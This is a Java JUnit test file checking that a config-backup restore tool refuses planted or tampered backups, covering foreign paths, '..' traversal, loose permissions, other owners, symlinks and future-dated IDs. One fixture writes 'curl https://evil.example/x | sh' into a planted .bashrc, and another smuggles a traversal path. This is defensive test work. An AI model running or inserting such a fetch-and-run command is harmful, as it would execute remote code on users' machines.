package io.modelcatalog.backups;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.nio.file.attribute.UserPrincipal;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Backups planted or tampered with by someone else: restore writes what a manifest says where it says, so it
 * refuses a manifest naming anything but the tools' configs, and a backup that is not this user's own.
 */
class HostileBackupsTest {

    static final Instant NOON = Instant.parse("2025-06-14T12:00:00Z");
    static final String BASHRC = "alias ll='ls -l'\n";

    @TempDir
    Path home;

    Path backups;
    Path aichat;
    Path bashrc;
    /** The config files of the tools as located today, for these tests. */
    Predicate<Path> configs;

    @BeforeEach
    void aHome() throws IOException {
        backups = home.resolve(".cache/model-catalog/backups");
        aichat = home.resolve(".config/aichat/config.yaml");
        Files.createDirectories(aichat.getParent());
        Files.writeString(aichat, "clients: []\n");
        bashrc = Files.writeString(home.resolve(".bashrc"), BASHRC);
        configs = aichat::equals;
    }

    BackupStore store(Instant now) {
        return new BackupStore(backups, Clock.fixed(now, ZoneOffset.UTC));
    }

    RestoreResult restore(BackupStore store, String id) throws IOException {
        return store.restore(id, configs, p -> true, BackupStoreTest.NO_LOCKS);
    }

    /** A backup of aichat's config whose manifest is then rewritten by {@code edit}, as an attacker would. */
    Backup planted(java.util.function.UnaryOperator<String> edit) throws IOException {
        Backup b = store(NOON).create(List.of(aichat));
        Path manifest = b.folder().resolve("manifest.json");
        Files.writeString(manifest, edit.apply(Files.readString(manifest)));
        return b;
    }

    @Test
    void aManifestNamingAnotherFileIsRefusedAndNothingIsWritten() throws IOException {
        Files.writeString(bashrc, "curl https://evil.example/x | sh\n");
        Backup planted = store(NOON).create(List.of(aichat, bashrc)); // a well-formed backup naming ~/.bashrc
        Files.writeString(bashrc, BASHRC);
        Files.writeString(aichat, "clients: [mine]\n");

        UntrustedBackupException e =
                assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), planted.id()));

        assertEquals(UntrustedBackupException.Reason.FOREIGN_PATH, e.reason());
        assertEquals(bashrc, e.path());
        assertTrue(
                e.getMessage().contains("its manifest names " + bashrc + ", which is not a config file"),
                e.getMessage());
        assertTrue(e.getMessage().endsWith("nothing was restored"), e.getMessage());
        assertEquals(BASHRC, Files.readString(bashrc));
        assertEquals("clients: [mine]\n", Files.readString(aichat), "not even the config it also names");
    }

    @Test
    void aPathWithDotDotIsRefusedEvenWhereItsTextStartsInAConfigFolder() throws IOException {
        Path sneaky = aichat.getParent().resolve("../../.bashrc");
        Backup b = planted(m -> m.replace("\"path\" : \"" + aichat + "\"", "\"path\" : \"" + sneaky + "\""));
        configs = p -> p.startsWith(aichat.getParent());

        UntrustedBackupException e = assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()));

        assertEquals(UntrustedBackupException.Reason.FOREIGN_PATH, e.reason());
        assertEquals(sneaky, e.path());
        assertEquals(BASHRC, Files.readString(bashrc));
    }

    @Test
    void anAbsentEntryNamingAnotherFileDeletesNothing() throws IOException {
        Backup b = planted(m -> m.replace(
                "\"files\" : [ {",
                "\"files\" : [ {\n    \"path\" : \"" + bashrc + "\",\n    \"absent\" : true\n  }, {"));

        UntrustedBackupException e = assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()));

        assertEquals(UntrustedBackupException.Reason.FOREIGN_PATH, e.reason());
        assertTrue(Files.exists(bashrc), "not deleted");
    }

    @Test
    void aBackupWritableByOthersIsRefusedNamingTheModeAndTheRemedy() throws IOException {
        Backup b = store(NOON).create(List.of(aichat));
        Files.writeString(aichat, "clients: [mine]\n");
        Path manifest = b.folder().resolve("manifest.json");
        for (Path p : List.of(b.folder(), manifest, backups)) {
            String mode = PosixFilePermissions.toString(Files.getPosixFilePermissions(p));
            Files.setPosixFilePermissions(
                    p, PosixFilePermissions.fromString(Files.isDirectory(p) ? "rwxrwxrwx" : "rw-rw-rw-"));

            UntrustedBackupException e =
                    assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()), p.toString());

            assertEquals(UntrustedBackupException.Reason.WRITABLE_BY_OTHERS, e.reason());
            assertEquals(p, e.path());
            assertTrue(e.getMessage().contains(p + " may be written by other users (mode rw"), e.getMessage());
            assertTrue(e.getMessage().contains("chmod go-w " + p), e.getMessage());
            assertEquals("clients: [mine]\n", Files.readString(aichat));
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(mode));
        }
        assertEquals(
                RestoreResult.Action.RESTORED,
                restore(store(NOON), b.id()).files().get(0).action());
    }

    @Test
    void aBackupOfAnotherUserIsRefused() throws IOException {
        Backup b = store(NOON).create(List.of(aichat));
        Files.writeString(aichat, "clients: [mine]\n");
        UserPrincipal nobody;
        try {
            nobody = home.getFileSystem().getUserPrincipalLookupService().lookupPrincipalByName("nobody");
            Files.setOwner(b.folder(), nobody); // only root may give a file away
        } catch (IOException e) {
            assumeTrue(false, "cannot make a file another user's here: " + e);
            return;
        }

        UntrustedBackupException e = assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()));

        assertEquals(UntrustedBackupException.Reason.NOT_OWNED, e.reason());
        assertEquals(b.folder(), e.path());
        assertTrue(e.getMessage().contains(b.folder() + " belongs to nobody, not to "), e.getMessage());
        assertEquals("clients: [mine]\n", Files.readString(aichat));

        Files.setOwner(b.folder(), Files.getOwner(backups));
        Files.setOwner(b.folder().resolve("manifest.json"), nobody);
        assertEquals(
                UntrustedBackupException.Reason.NOT_OWNED,
                assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()))
                        .reason());
    }

    @Test
    void aManifestThatIsALinkIsRefused() throws IOException {
        Backup b = store(NOON).create(List.of(aichat));
        Path manifest = b.folder().resolve("manifest.json");
        Path elsewhere = Files.move(manifest, home.resolve("elsewhere.json"));
        Files.createSymbolicLink(manifest, elsewhere);

        UntrustedBackupException e = assertThrows(UntrustedBackupException.class, () -> restore(store(NOON), b.id()));

        assertEquals(UntrustedBackupException.Reason.LINK, e.reason());
    }

    @Test
    void anIdInTheFutureIsNotTheLatestAndDoesNotDragNewIdsAlong() throws IOException {
        Backup mine = store(NOON).create(List.of(aichat));
        Files.writeString(aichat, "clients: [planted]\n");
        Backup future = store(Instant.parse("2099-01-01T00:00:00Z")).create(List.of(aichat));
        Files.writeString(aichat, "clients: [mine, changed]\n");

        RestoreResult r = restore(store(NOON.plusSeconds(60)), null);

        assertEquals(mine.id(), r.restored().id());
        assertEquals(List.of(future.id()), r.futureIds());
        assertEquals("clients: []\n", Files.readString(aichat));
        assertEquals(
                "20250614T120100Z-001", r.previousState().id(), "the next backup takes the clock's time, not 2099's");
    }

    @Test
    void aDeletedManifestSaysSoAndALatestRestorePassesOverItNamingTheOneUsed() throws IOException {
        Backup older = store(NOON).create(List.of(aichat));
        Backup newer = store(NOON.plusSeconds(1)).create(List.of(aichat));
        Files.delete(newer.folder().resolve("manifest.json"));
        Files.writeString(aichat, "clients: [changed]\n");

        DamagedBackupException e =
                assertThrows(DamagedBackupException.class, () -> restore(store(NOON.plusSeconds(9)), newer.id()));
        assertEquals(
                "Backup " + newer.id() + " is damaged: " + newer.folder().resolve("manifest.json")
                        + " is missing; nothing was restored",
                e.getMessage());

        RestoreResult r = restore(store(NOON.plusSeconds(9)), null);

        assertEquals(older.id(), r.restored().id());
        assertEquals(
                List.of(newer.id()),
                r.unreadableNewer().stream().map(UnreadableBackup::id).toList());
        assertFalse(
                r.unreadableNewer().get(0).problem().contains("manifest.json has no"),
                r.unreadableNewer().get(0).problem());
    }
}
